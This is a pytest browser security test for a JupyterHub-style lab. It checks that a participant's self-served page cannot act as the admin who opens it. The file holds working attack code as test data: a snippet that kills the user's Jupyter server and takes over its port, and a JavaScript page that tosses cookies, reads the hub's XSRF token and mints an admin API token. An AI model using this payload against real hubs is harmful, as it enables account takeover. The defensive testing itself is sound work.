"""Issue 11, finding 1: a participant's page must not be able to act as the admin who opens it.

The participant takes over what their server's address serves: from a notebook, they start a web
server of their own that kills their Jupyter server and listens on its port, so the proxy's route to
"their server" now reaches a page they wrote, whatever the lab's Jupyter configuration. The admin,
signed in in their own browser, opens the link. The page's script reads the hub's XSRF token from
``/hub/home`` (on its own origin, then on the hub's) and asks ``/hub/api/users/admin/tokens`` for a
token. The hub's token list (read through the API) says whether it got one.

With one origin per person (the default) the page runs on ``<name>.localhost`` and the hub's
cookies never reach it; with ``unsafe_shared_origin: true`` the same page mints the token, which
shows the test can fail.
"""

from __future__ import annotations

import json

import pytest
from backstage_testing.lab import own_lab

pytestmark = pytest.mark.browser

NOTE = "minted-by-a-participant-page"

# What the participant runs in their kernel: a detached web server that takes over their server's port.
IMPERSONATE = r'''
import os, subprocess, sys, urllib.parse
server = r"""
import http.server, os, signal, sys, time
port, victim, page = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode()
time.sleep(2)  # the kernel answers first
os.kill(victim, signal.SIGKILL)
deadline = time.time() + 180
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)
    def log_message(self, *args):
        pass
while True:
    try:
        httpd = http.server.HTTPServer(("127.0.0.1", port), Page)
        break
    except OSError:
        if time.time() > deadline:
            sys.exit(1)
        time.sleep(0.05)
httpd.timeout = 1
while time.time() < deadline:
    httpd.handle_request()
"""
port = urllib.parse.urlparse(os.environ["JUPYTERHUB_SERVICE_URL"]).port
subprocess.Popen([sys.executable, "-c", server, str(port), str(os.getppid()), PAGE], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
port
'''

# The page: it tries every way a script has to act as its viewer against the hub.
PAGE = """<!doctype html><html lang="en"><title>My analysis</title><p id="status">working</p><script>
(async () => {
  const log = [];
  // cookie tossing: cookies for the hub's parent domain, set from the participant's host
  for (const c of ['jupyterhub-session-id=tossed', '_xsrf=tossed; path=/hub/', 'jupyterhub-hub-login=tossed; path=/hub/'])
    document.cookie = c + '; domain=' + new URL(HUB).hostname;
  // up to three tries each, as an attacker would: the admin's other tabs (their lab loading) can renew the hub's
  // _xsrf cookie between the read and the POST (a 403 "XSRF cookie does not match" seen once on a shared origin)
  for (const hub of [...new Set([location.origin, HUB])]) {
    for (let attempt = 0; attempt < 3; attempt++) {
      try {
        const home = await (await fetch(hub + '/hub/home', {credentials: 'include'})).text();
        const xsrf = (home.match(/xsrf_token: "([^"]+)"/) || [])[1];
        if (!xsrf) { log.push(hub + ': no xsrf token'); break; }
        const r = await fetch(hub + '/hub/api/users/admin/tokens', {method: 'POST', credentials: 'include',
          headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'},
          body: JSON.stringify({note: NOTE, expires_in: 600})});
        log.push(hub + ': tokens ' + r.status);
        if (r.ok) break;
        await new Promise(done => setTimeout(done, 1000));
      } catch (e) { log.push(hub + ': blocked (' + e.name + ')'); break; }
    }
  }
  document.getElementById('status').textContent = 'done: ' + log.join('; ');
})();
</script></html>"""


def minted(lab) -> list[dict]:
    return [t for t in lab.api("GET", "/users/admin/tokens").json()["api_tokens"] if t.get("note") == NOTE]


def attack(lab, new_context) -> tuple[str, list[dict]]:
    """The participant serves the page; the admin opens it; return what the page reported, the tokens minted
    and the admin's cookies for the hub."""
    mallory = lab.create_user("mallory", groups=("participants",))
    lab.spawn(mallory)
    admin = new_context().pages[0]
    admin.goto(f"{lab.url}/hub/login")
    admin.get_by_label("Username").fill("admin")
    admin.get_by_label("Password").fill(lab.admin_password)
    admin.get_by_role("button", name="Sign in").click()
    # signed in, and settled: the hub's home, or their own lab, which the hub starts at sign-in (its spawn-pending
    # page moves on by itself when the server is up: a link opened before then is interrupted by that move)
    admin.wait_for_url(lambda url: "/hub/home" in url or "/user/admin/lab" in url, timeout=120_000)

    page_html = PAGE.replace("HUB", json.dumps(lab.url)).replace("NOTE", json.dumps(NOTE))
    out = lab.execute("mallory", f"PAGE = {page_html!r}\n" + IMPERSONATE)
    assert out["error"] is None, out
    link = f"{lab.user_url('mallory')}/lab/tree/notebooks/analysis.html"
    for _ in range(60):  # the participant's server answers within a few seconds
        admin.goto(link)
        if admin.title() == "My analysis":
            break
        admin.wait_for_timeout(1000)
    assert admin.title() == "My analysis", admin.content()[:500]
    admin.wait_for_function("document.getElementById('status').textContent.startsWith('done')", timeout=60_000)
    return admin.locator("#status").text_content(), minted(lab), admin.context.cookies([f"{lab.url}/hub/home"])


def test_a_participants_page_cannot_mint_a_token_as_the_admin_who_opens_it(lab, new_context):
    assert ".localhost:" in lab.user_url("mallory")  # one origin per person is the default
    report, tokens, cookies = attack(lab, new_context)
    assert tokens == [], f"the page minted a token as the admin: {report}"
    assert "tokens 200" not in report and "tokens 201" not in report, report
    # and it could not toss cookies onto the hub: Chromium refuses Domain=localhost from mallory.localhost
    assert cookies and "tossed" not in {c["value"] for c in cookies}, cookies


@pytest.fixture
def shared_origin_lab():
    with own_lab("u", gallery=False, idle_timeout=0, unsafe_shared_origin=True) as lab:
        yield lab


def test_on_a_shared_origin_the_same_page_does_take_over_the_admin(shared_origin_lab, new_context):
    """Why unsafe_shared_origin is called unsafe (and proof that the test above can fail)."""
    report, tokens, _ = attack(shared_origin_lab, new_context)
    assert len(tokens) == 1, report
    assert "tokens 20" in report, report
